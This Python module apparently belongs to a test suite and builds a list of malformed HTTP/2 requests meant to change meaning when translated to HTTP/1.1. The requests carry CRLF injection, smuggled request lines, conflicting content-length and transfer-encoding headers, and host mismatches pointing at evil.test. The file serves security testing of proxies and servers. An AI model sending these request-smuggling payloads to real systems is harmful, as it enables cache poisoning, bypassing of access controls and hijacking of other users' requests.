"""The payloads of row P3: HTTP/2 requests that would change their meaning when written as HTTP/1.1.

Each is a list of fields for HEADERS and, where `data` is given, the bodies of DATA frames; `trailers` end the stream.
MARK in names and values becomes the payload's own mark. `target` is where an origin would show it.
"""

from dataclasses import dataclass

PATH = b"/MARK/a"
BASE = ((b":method", b"GET"), (b":scheme", b"http"), (b":path", PATH), (b":authority", b"origin.test"))
POST = ((b":method", b"POST"), *BASE[1:])
CRLF = b"\r\nGET /MARK/smuggled HTTP/1.1\r\nHost: origin.test\r\n\r\n"


@dataclass(frozen=True)
class Payload:
    name: str
    fields: tuple
    data: tuple = ()
    trailers: tuple = ()


def where(name, value, base=BASE):
    return tuple((known, value if known == name else old) for known, old in base)


def without(name, base=BASE):
    return tuple(field for field in base if field[0] != name)


def pseudo_headers():
    for name in (b":method", b":scheme", b":path", b":authority"):
        shown = name[1:].decode()
        for what, byte in {"cr": b"\r", "lf": b"\n", "nul": b"\0", "tab": b"\t", "control": b"\x01", "del": b"\x7f", "high": b"\xff"}.items():
            old = dict(BASE)[name]
            yield Payload(f"{shown}-with-{what}", where(name, old + byte + b"x"))
        yield Payload(f"{shown}-with-space", where(name, dict(BASE)[name] + b" x"))
        yield Payload(f"{shown}-injects-a-request", where(name, dict(BASE)[name] + b" HTTP/1.1\r\nHost: a" + CRLF))
        yield Payload(f"{shown}-twice", (*BASE, (name, dict(BASE)[name])))
        yield Payload(f"{shown}-twice-differing", (*BASE, (name, dict(BASE)[name] + b"2")))
        yield Payload(f"{shown}-empty", where(name, b"")) if name != b":authority" else Payload("authority-empty-and-host-bad", (*where(name, b""), (b"host", b"a b")))
        yield Payload(f"{shown}-after-a-field", (*without(name), (b"x-a", b"b"), (name, dict(BASE)[name])))
        yield Payload(f"{shown}-in-trailers", POST, (b"x",), ((name, dict(BASE)[name]),))
        if name != b":authority":
            yield Payload(f"{shown}-missing", without(name))
    yield Payload("authority-and-host-missing", without(b":authority"))
    for name, value in {"unknown": (b":x", b"y"), "status": (b":status", b"200"), "empty-name": (b":", b"y"), "protocol-in-get": (b":protocol", b"websocket")}.items():
        yield Payload(f"pseudo-{name}", (*BASE, value))
    for name, value in {"method-as-request-line": b"GET /MARK/smuggled HTTP/1.1\r\nX: ", "method-paren": b"G(ET", "method-colon": b"GET:", "method-slash": b"GET/"}.items():
        yield Payload(name, where(b":method", value))
    for name, value in {"path-relative": b"MARK/a", "path-star-in-get": b"*", "path-fragment": b"/MARK/a#f", "path-bad-percent": b"/MARK/%zz", "path-encoded-nul": b"/MARK/%00",
                        "path-above-root": b"/../MARK/a", "path-http-version": b"/MARK/a HTTP/1.1", "path-crlf-only": b"\r\n/MARK/a", "path-leading-space": b" /MARK/a"}.items():
        yield Payload(name, where(b":path", value))
    for name, value in {"userinfo": b"u:p@origin.test", "slash": b"origin.test/MARK", "query": b"origin.test?x", "comma": b"origin.test,evil", "bad-port": b"origin.test:99999",
                        "port-letters": b"origin.test:http", "open-bracket": b"[::1", "backslash": b"origin.test\\x"}.items():
        yield Payload(f"authority-{name}", where(b":authority", value))
    for name, value in {"unknown": b"ftp", "crlf": b"http\r\nX: y", "injects-host": b"http://evil.test/MARK/smuggled?"}.items():
        yield Payload(f"scheme-{name}", where(b":scheme", value))


def fields():
    for what, byte in {"cr": b"\r", "lf": b"\n", "nul": b"\0", "crlf": b"\r\n", "control": b"\x01", "vt": b"\x0b", "del": b"\x7f", "esc": b"\x1b"}.items():
        yield Payload(f"value-with-{what}", (*BASE, (b"x-a", b"b" + byte + b"c")))
        yield Payload(f"name-with-{what}", (*BASE, (b"x" + byte + b"a", b"b")))
        if what in ("cr", "lf", "nul", "crlf"):
            yield Payload(f"value-ends-with-{what}", (*BASE, (b"x-a", b"b" + byte)))
            yield Payload(f"value-starts-with-{what}", (*BASE, (b"x-a", byte + b"b")))
            yield Payload(f"trailer-value-with-{what}", POST, (b"x",), ((b"x-t", b"a" + byte + b"b"),))
            yield Payload(f"cookie-with-{what}", (*BASE, (b"cookie", b"a=b" + byte + b"c=d")))
    yield Payload("value-injects-a-field", (*BASE, (b"x-a", b"b\r\nTransfer-Encoding: chunked")))
    yield Payload("value-injects-a-request", (*POST, (b"x-a", b"b\r\n" + CRLF)), (b"",))
    yield Payload("name-injects-a-field", (*BASE, (b"x-a: b\r\ntransfer-encoding", b"chunked")))
    yield Payload("name-injects-a-request", (*BASE, (b"x: y\r\n" + CRLF[2:] + b"x", b"y")))
    for byte in b"\"(),/:;<=>?@[\\]{} \t\x80\xff":
        yield Payload(f"name-with-{byte:#04x}", (*BASE, (b"x" + bytes([byte]) + b"a", b"b")))
    yield Payload("name-empty", (*BASE, (b"", b"b")))
    for name in (b"X-A", b"Content-Length", b"Transfer-Encoding", b"Host", b"hosT"):
        yield Payload(f"name-upper-{name.decode()}", (*BASE, (name, b"0")))
    yield Payload("trailer-name-upper", POST, (b"x",), ((b"X-T", b"a"),))
    yield Payload("trailer-name-with-lf", POST, (b"x",), ((b"x\nt", b"a"),))


def connection_fields():
    for name, value in {"connection": b"close", "connection-nominates": b"x-private", "keep-alive": b"timeout=5", "proxy-connection": b"keep-alive", "transfer-encoding": b"chunked",
                        "transfer-encoding-identity": b"identity", "transfer-encoding-empty": b"", "upgrade": b"websocket", "upgrade-h2c": b"h2c", "te-chunked": b"chunked",
                        "te-gzip": b"gzip", "te-list": b"trailers, gzip", "te-quality": b"trailers;q=0.5"}.items():
        field = next(known for known in ("proxy-connection", "connection", "keep-alive", "transfer-encoding", "upgrade", "te") if name.startswith(known))
        yield Payload(f"hop-{name}", (*BASE, (field.encode(), value)))
    body = (b"0\r\n" + CRLF,)
    yield Payload("te-chunked-body-smuggles", (*POST, (b"transfer-encoding", b"chunked")), body)
    yield Payload("te-chunked-and-length", (*POST, (b"transfer-encoding", b"chunked"), (b"content-length", b"%d" % len(body[0]))), body)
    yield Payload("transfer-encoding-in-trailers", POST, (b"x",), ((b"transfer-encoding", b"chunked"),))
    yield Payload("connection-in-trailers", POST, (b"x",), ((b"connection", b"close"),))


def lengths():
    for name, value, data in (("above-data", b"10", (b"hello",)), ("below-data", b"3", (b"hello",)), ("zero-with-data", b"0", (CRLF[2:],)), ("above-several", b"9", (b"he", b"llo")),
                              ("below-several", b"4", (b"he", b"llo")), ("hides-a-request", b"5", (b"hello" + CRLF[2:],)), ("not-a-number", b"x", (b"hello",)), ("negative", b"-5", (b"hello",)),
                              ("plus", b"+5", (b"hello",)), ("hex", b"0x5", (b"hello",)), ("list-differing", b"5, 6", (b"hello",)), ("space-inside", b"5 5", (b"hello",)),
                              ("empty", b"", (b"hello",)), ("overflow", b"18446744073709551621", (b"hello",)), ("huge", b"9" * 40, (b"hello",)), ("underscore", b"5_0", (b"hello",)),
                              ("fraction", b"5.0", (b"hello",)), ("met-then-more", b"5", (b"hello", b"x"))):
        yield Payload(f"length-{name}", (*POST, (b"content-length", value)), data)
    yield Payload("length-twice-differing", (*POST, (b"content-length", b"5"), (b"content-length", b"6")), (b"hello",))
    yield Payload("length-without-data", (*POST, (b"content-length", b"5")))
    yield Payload("length-with-trailers-short", (*POST, (b"content-length", b"9")), (b"hello",), ((b"x-t", b"a"),))


def hosts():
    for name, value in {"differs": b"evil.test", "differs-in-port": b"origin.test:81", "with-crlf": b"origin.test\r\nX: y", "with-space": b"origin.test evil", "with-userinfo": b"a@origin.test"}.items():
        yield Payload(f"host-{name}", (*BASE, (b"host", value)))
    yield Payload("host-twice", (*BASE, (b"host", b"origin.test"), (b"host", b"evil.test")))
    yield Payload("host-alone-with-lf", (*without(b":authority"), (b"host", b"origin.test\nX: y")))
    yield Payload("host-alone-twice", (*without(b":authority"), (b"host", b"origin.test"), (b"host", b"evil.test")))


def connects():
    plain = ((b":method", b"CONNECT"), (b":authority", b"origin.test:80"))
    yield Payload("connect-with-path", (*plain, (b":path", PATH)))
    yield Payload("connect-with-scheme", (*plain, (b":scheme", b"http")))
    yield Payload("connect-without-authority", ((b":method", b"CONNECT"),))
    yield Payload("connect-with-crlf", ((b":method", b"CONNECT"), (b":authority", b"origin.test:80\r\nX: y")))
    yield Payload("connect-without-port", ((b":method", b"CONNECT"), (b":authority", b"origin.test")))
    yield Payload("connect-protocol-with-crlf", (*BASE[1:], (b":method", b"CONNECT"), (b":protocol", b"websocket\r\nX: y")))


def all_payloads():
    return [payload for group in (pseudo_headers, fields, connection_fields, lengths, hosts, connects) for payload in group()]
